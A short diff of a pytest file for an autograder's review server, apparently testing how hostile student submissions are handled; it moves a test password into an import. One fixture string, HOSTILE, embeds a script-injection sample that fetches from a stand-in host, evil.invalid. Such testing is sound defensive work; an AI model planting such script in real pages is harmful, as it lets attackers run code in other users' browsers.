@@ -3,6 +3,7 @@
 import shutil
 
 import pytest
+from review_people import PASSWORD
 
 from autograder.outfolder import OutFolder
 from autograder.review.serve import office_of
@@ -13,7 +14,7 @@ server = pytest.importorskip("benchmarks.review_server")
 
 COUNT = 14
 TWINS = {4: {"1b": "### Antwort 1b\n\nGenau gleich."}, 5: {"1b": "### Antwort 1b\n\ngenau gleich"}}
-PASSWORD = "nur-zum-testen-1"
+
 HOSTILE = """### Antwort 1b
 
 <script>window.hacked = 1; fetch('http://evil.invalid/script')</script>
